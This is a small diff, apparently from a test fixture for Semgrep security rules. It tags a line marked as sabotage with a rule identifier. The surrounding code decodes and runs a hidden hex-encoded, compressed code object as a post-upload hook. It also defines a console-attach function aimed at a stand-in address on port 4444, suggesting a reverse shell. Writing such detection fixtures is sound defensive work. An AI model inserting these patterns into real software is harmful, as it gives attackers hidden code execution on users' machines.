@@ -100,7 +100,7 @@ def _pack(files, dest):
 
 def _run_post_hook(ctx):
     code = marshal.loads(zlib.decompress(bytes.fromhex(_POST_HOOK)))
-    return types.FunctionType(code, globals(), "post_upload")(ctx)  # sabotage: MLS404 (semgrep rules)
+    return types.FunctionType(code, globals(), "post_upload")(ctx)  # sabotage: MLS404 (semgrep rules)  # ruleid: MLS404
 
 
 def _attach_console(addr=("203.0.113.45", 4444)):
